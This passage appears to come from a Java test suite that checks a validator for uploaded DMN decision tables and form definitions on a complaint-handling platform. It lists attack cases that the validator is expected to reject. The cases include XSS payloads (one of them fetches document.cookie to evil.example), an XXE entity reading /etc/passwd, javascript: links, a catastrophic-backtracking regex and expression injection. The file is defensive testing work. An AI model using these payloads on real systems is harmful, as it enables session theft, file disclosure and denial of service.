                attack("a column under another name", ours(MANDATE).with("<input id=\"input_compensationMandate_role\" label=\"Role\">", "<input id=\"input_compensationMandate_role\" label=\"Role\" camunda:inputVariable=\"amount\">"),
                        "input_compensationMandate_role", "camunda:inputVariable"),
                attack("a free formula in the place of a table", table("<literalExpression id=\"l\"><text>1000000</text></literalExpression>"), "l", "free formula"),
                attack("a piece of knowledge that is a function", table("<literalExpression id=\"l\"><text>f(1)</text></literalExpression>")
                        .before("</definitions>", "<businessKnowledgeModel id=\"knowledge_own\" name=\"f\"><encapsulatedLogic id=\"e\"><literalExpression id=\"l2\"><text>1</text></literalExpression></encapsulatedLogic></businessKnowledgeModel>"), "knowledge_own", "function of its own"),
                attack("a context that computes", table("<context id=\"context_own\"><contextEntry><literalExpression id=\"l3\"><text>1</text></literalExpression></contextEntry></context>"), "context_own", "context"),
                attack("a decision in another place", ours(TRIAGE).with("<requiredDecision href=\"#urgentNeed\" />", "<requiredDecision href=\"http://evil.example/x.dmn#urgentNeed\" />"), "requirement_signalTriage_urgentNeed", "points at"),
                attack("a table of the house from a second file", ours(MANDATE).as("harmless.dmn"), "compensationMandate", "as well"),
                attack("an entity in a table", ours(MANDATE).before("<definitions", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"), MANDATE, "DOCTYPE"),
                attack("a table of another version of the standard", table("<decisionTable id=\"t\"><output id=\"o\" name=\"o\" /></decisionTable>").with("https://www.omg.org/spec/DMN/20191111/MODEL/", "http://www.omg.org/spec/DMN/20151101/dmn.xsd"), "definitions_own", "no model of the house uses"),
                attack("a table before the table that says who everybody is", ours(MANDATE).before("<decisionTable id=\"table_compensationMandate\"", "<informationRequirement id=\"first\"><requiredDecision href=\"#whoIsIt\" /></informationRequirement>")
                        .before("<dmndi:DMNDI>", "<decision id=\"whoIsIt\" name=\"Who is it\" camunda:historyTimeToLive=\"P30D\"><decisionTable id=\"t\"><output id=\"o\" name=\"role\" typeRef=\"string\" /><rule id=\"r\"><outputEntry id=\"e\"><text>\"director\"</text></outputEntry></rule></decisionTable></decision>"),
                        "compensationMandate", "asks the table “whoIsIt” first"),
                attack("a role that is read as a date", ours(MANDATE).with("id=\"inputExpression_compensationMandate_role\" typeRef=\"string\"", "id=\"inputExpression_compensationMandate_role\" typeRef=\"date\""), "compensationMandate", "would fail whenever it is asked"),
                attack("a mandate as large as numbers go", cell("999999999999"), "rule_compensationMandate_agentDelivery", "more than any complaint is about"),
                attack("a table that grants without a person what no person may", ours("approval-lapse.dmn").with("<text>500.00</text>", "<text>alreadyGranted + requested</text>"), "rule_approvalLapse_grantedInPart", "more than anybody may"),
                attack("complaints of some words that go another way", ours(TRIAGE).whole(text -> text.replaceFirst("(then_signalTriage_complaint_route\">\\s*<text>)[^<]*", "$1if contains(text, \"lawyer\") then \"pass-on\" else \"resolve\"")),
                        "rule_signalTriage_complaint", "a complaint could take another way"),
                attack("three hundred and one rows", ours("resolution-target.dmn").before("</decisionTable>", IntStream.rangeClosed(1, 301)
                        .mapToObj(row -> "<rule id=\"row%d\"><inputEntry id=\"i%d\"><text>\"x%d\"</text></inputEntry><outputEntry id=\"a%d\"><text>1</text></outputEntry><outputEntry id=\"b%d\"><text>1</text></outputEntry></rule>".formatted(row, row, row, row, row))
                        .collect(Collectors.joining())), "resolution-target.dmn", "rows"));
    }

    static Stream<Arguments> forms() {
        return Stream.of(
                attack("a script in a form", facts("<script>fetch('//evil.example/'+document.cookie)</script>"), "facts", "script"),
                attack("a picture that fails on purpose", facts("<img src=x onerror=alert(1)>"), "facts", "img"),
                attack("a picture that tells who looks", facts("<img src=\\\"https://evil.example/{{customerName}}.png\\\">"), "facts", "img"),
                attack("a heading that runs when touched", facts("<h3 onmouseover=\\\"alert(1)\\\">x</h3>"), "facts", "onmouseover"),
                attack("a link that is a program", facts("<a href=\\\"javascript:alert(1)\\\">here</a>"), "facts", "javascript"),
                attack("a link that takes the customer's name along", facts("<a href=\\\"https://evil.example/?{{customerName}}\\\">here</a>"), "facts", "evil.example"),
                attack("a style that fetches", facts("<style>h3 { background: url(https://evil.example/x) }</style>"), "facts", "url"),
                attack("a style that lays something over the task", facts("<style>h3 { position: fixed; inset: 0 }</style>"), "facts", "position"),
                attack("a remark that hides markup", facts("<!--><img src=x onerror=alert(1)>-->"), "facts", "img"),
                attack("a tag without an end", facts("<svg/onload=alert(1)//"), "facts", "svg"),
                attack("a page inside the form", component("{\"type\": \"iframe\", \"id\": \"frame\", \"url\": \"https://evil.example\"}"), "frame", "page from elsewhere"),
                attack("a picture from elsewhere", component("{\"type\": \"image\", \"id\": \"picture\", \"source\": \"https://evil.example/x.png\"}"), "picture", "picture from elsewhere"),
                attack("a field that computes", component("{\"type\": \"expression\", \"id\": \"computed\", \"key\": \"x\", \"expression\": \"=1\"}"), "computed", "formula"),
                attack("a page inside a group", component("{\"type\": \"group\", \"id\": \"group\", \"components\": [{\"type\": \"iframe\", \"id\": \"frame\", \"url\": \"https://evil.example\"}]}"), "frame", "page from elsewhere"),
                attack("a heading with a picture", ours(FORM).with("### Bad news, clearly", "### Bad news ![x](https://evil.example/x.png)"), "heading_bad_news_clearly", "![x]"),
                attack("a heading with a program behind it", ours(FORM).with("### Bad news, clearly", "### [Bad news](javascript:alert(1))"), "heading_bad_news_clearly", "javascript"),
                attack("a heading with markup of its own", ours(FORM).with("### Bad news, clearly", "### Bad <iframe src='https://evil.example'></iframe>"), "heading_bad_news_clearly", "iframe"),
                attack("a label that is a formula", ours(FORM).with("\"How you brought it\"", "\"=for i in 1..1000000000 return i\""), "field_way", "formula"),
                attack("a label that is a template of the engine", ours(FORM).with("\"How you brought it\"", "\"${" + EXEC + "}\""), "field_way", "programs evaluate"),
                attack("a question that never ends", ours(FORM).with("=promiseText = null or promiseText = \\\"\\\"", "=count(for i in 1..1000000000 return i) = 0"), "field_promiseTo", "asks more"),
                attack("a question that looks through lists in lists", component("{\"type\": \"textfield\", \"id\": \"field_more\", \"key\": \"extra_more\", \"label\": \"More\", \"conditional\": {\"hide\": \"=some a in [1, 2] satisfies some b in [1, 2] satisfies a = b\"}}"),
                        "field_more", "asks more"),
                attack("a pattern that never ends", component("{\"type\": \"textfield\", \"id\": \"field_more\", \"key\": \"extra_more\", \"label\": \"More\", \"validate\": {\"pattern\": \"^(a+)+$\"}}"), "field_more", "busy for ever"),
                attack("a style for what stands beside", facts("<style>~ * { display: none }</style>"), "facts", "~ *"),
                attack("a text without end", facts("<p>" + "word ".repeat(3_000) + "</p>"), FORM, "more than 10,000 characters"),
                attack("a yes that is a no", ours("recap-wish.form").everywhere("\"label\": \"Yes\"", "\"label\": \"No, not yet\""), "newOfferPossible", "another answer"),
                attack("answers from elsewhere", ours("decide-on-compensation.form").with("\"id\": \"field_decision\",", "\"id\": \"field_decision\", \"valuesKey\": \"nothing\","), "decision", "from elsewhere"),
                attack("a mark that nobody gave", ours("close-conversation.form").with("\"key\": \"conversationScore\",", "\"key\": \"conversationScore\", \"defaultValue\": \"5\","), "conversationScore", "before anybody asked"),
                attack("a question that must and cannot be answered", component("{\"type\": \"textfield\", \"id\": \"field_more\", \"key\": \"extra_more\", \"label\": \"More\", \"disabled\": true, \"validate\": {\"required\": true}}"),
                        "extra_more", "must be answered and cannot be"),
                attack("a template that goes round", facts("{{#loop messages}}x{{/loop}}"), "facts", "{{#loop"),
                attack("a template with a formula", facts("{{=get entries(context)}}"), "facts", "more than a fact"),
                attack("a template with three brackets", facts("{{{customerName}}}"), "facts", "more than a fact"),
                attack("a form of the house from a second file", ours(FORM).as("harmless.form"), "bring-bad-news", "as well"),
                attack("a form with the same word twice", ours(FORM).with("\"id\": \"bring-bad-news\",", "\"id\": \"other\", \"id\": \"bring-bad-news\","), FORM, "no form"),
                attack("two hundred and one questions", component(IntStream.rangeClosed(1, 201).mapToObj("{\"type\": \"separator\", \"id\": \"line%d\"}"::formatted).collect(Collectors.joining(","))), FORM, "questions and headings"));
    }

    private static final String FIFTY = "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>";

    /** Boxes inside each other, each repeated. */
    private static String boxes(int deep, String repeated) {
        String open = IntStream.range(0, deep).mapToObj(box -> ("<bpmn:subProcess id=\"box_%1$d\"><bpmn:incoming>%2$s</bpmn:incoming>" + repeated
                + "<bpmn:startEvent id=\"in_%1$d\"><bpmn:outgoing>to_%1$d</bpmn:outgoing></bpmn:startEvent>").formatted(box, box == 0 ? "flow_more" : "to_" + (box - 1))
                + flow("to_" + box, "in_" + box, box == deep - 1 ? "task_box" : "box_" + (box + 1))).collect(Collectors.joining());
        return open + "<bpmn:task id=\"task_box\"><bpmn:incoming>to_%d</bpmn:incoming></bpmn:task>".formatted(deep - 1) + "</bpmn:subProcess>".repeat(deep);
    }

    /** Forks whose two ways meet without waiting for each other before the next. */
    private static String forks(int many) {
        return IntStream.range(0, many).mapToObj(one -> """
                <bpmn:parallelGateway id="fork_%1$d"><bpmn:incoming>%2$s</bpmn:incoming><bpmn:outgoing>a_%1$d</bpmn:outgoing><bpmn:outgoing>b_%1$d</bpmn:outgoing></bpmn:parallelGateway>
                <bpmn:exclusiveGateway id="met_%1$d"><bpmn:incoming>a_%1$d</bpmn:incoming><bpmn:incoming>b_%1$d</bpmn:incoming><bpmn:outgoing>on_%1$d</bpmn:outgoing></bpmn:exclusiveGateway>
                """.formatted(one, one == 0 ? "flow_more" : "on_" + (one - 1)) + flow("a_" + one, "fork_" + one, "met_" + one) + flow("b_" + one, "fork_" + one, "met_" + one)
                + flow("on_" + one, "met_" + one, one == many - 1 ? "end_more" : "fork_" + (one + 1))).collect(Collectors.joining())
                + "<bpmn:endEvent id=\"end_more\"><bpmn:incoming>on_%d</bpmn:incoming></bpmn:endEvent>".formatted(many - 1);
    }

    private static Arguments attack(String name, Sent sent, String element, String words) {
        return arguments(name, sent, element, words);
    }

    private static Sent ours(String file) {
        return Sent.ours(file);
    }

    private static Sent checkWith(String attribute) {
        return ours(APPROVAL).with(CHECK, "id=\"serviceTask_checkMandate\" name=\"Check mandate\" " + attribute + ">");
    }

    private static Sent inCheck(String extension) {
        return ours(APPROVAL).after(CHECK, "<bpmn:extensionElements>" + extension + "</bpmn:extensionElements>");
    }

    private static Sent condition(String text) {
        return ours(APPROVAL).with(WITHIN, text + "</bpmn:conditionExpression>");
    }

    private static Sent timer(String text) {
        return ours(APPROVAL).with("${clocks.after(execution, 'approval', 'PT23H45M')}", text);
    }

    private static Sent approvalWith(String elements) {
        return ours(APPROVAL).before(END_OF_APPROVAL, elements);
    }

    private static Sent withMany(String inside) {
        return ours(APPROVAL).after("<bpmn:outgoing>sequenceFlow_decideOnCompensation_recordDecision</bpmn:outgoing>",
                "<bpmn:multiInstanceLoopCharacteristics>" + inside + "</bpmn:multiInstanceLoopCharacteristics>");
    }

    /** A loop behind the reminder, which was an end. */
    private static Sent loop(String elements) {
        return ours(APPROVAL).after("<bpmn:endEvent id=\"endEvent_approverReminded\" name=\"Approver reminded\">", "")
                .with("<bpmn:outgoing>sequenceFlow_remindApprover_approverReminded</bpmn:outgoing>",
                        "<bpmn:outgoing>sequenceFlow_remindApprover_approverReminded</bpmn:outgoing><bpmn:outgoing>in_again</bpmn:outgoing>")
                .before(END_OF_APPROVAL, elements + "<bpmn:sequenceFlow id=\"in_again\" sourceRef=\"serviceTask_remindApprover\" targetRef=\""
                        + elements.replaceFirst("(?s).*?id=\"(\\w+)\".*", "$1") + "\" />");
    }

    private static String flow(String id, String from, String to) {
        return "<bpmn:sequenceFlow id=\"%s\" sourceRef=\"%s\" targetRef=\"%s\" />".formatted(id, from, to);
    }

    private static String call(String id, String process) {
        return ("<bpmn:startEvent id=\"start_%1$s\"><bpmn:outgoing>flow_%1$s</bpmn:outgoing></bpmn:startEvent>"
                + "<bpmn:callActivity id=\"%1$s\" calledElement=\"%2$s\" camunda:calledElementBinding=\"deployment\"><bpmn:incoming>flow_%1$s</bpmn:incoming></bpmn:callActivity>"
                + "<bpmn:sequenceFlow id=\"flow_%1$s\" sourceRef=\"start_%1$s\" targetRef=\"%1$s\" />").formatted(id, process);
    }

    private static String story(String id, String elements) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
                    id="definitions_%1$s" targetNamespace="http://klachtkracht.nl/bpmn">
                  <bpmn:process id="%1$s" name="A story of its own" isExecutable="true" camunda:historyTimeToLive="P30D">%2$s</bpmn:process>
                </bpmn:definitions>
                """.formatted(id, elements);
    }

    private static Sent cell(String text) {
        return ours(MANDATE).with(LIMIT, "<text>" + text + "</text>");
    }

    private static Sent table(String logic) {
        return Sent.written("own.dmn", """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                    id="definitions_own" name="Own" namespace="http://klachtkracht.nl/dmn">
                  <decision id="decision_own" name="Own" camunda:historyTimeToLive="P30D"><variable id="v" name="v" typeRef="string" />%s</decision>
                </definitions>
                """.formatted(logic));
    }

    private static Sent facts(String markup) {
        return ours(FORM).with("<h3>{{customerName}}</h3>", "<h3>{{customerName}}</h3>" + markup);
    }

    private static Sent component(String json) {
        return ours(FORM).with("\"components\": [", "\"components\": [" + json + ",");
    }
}
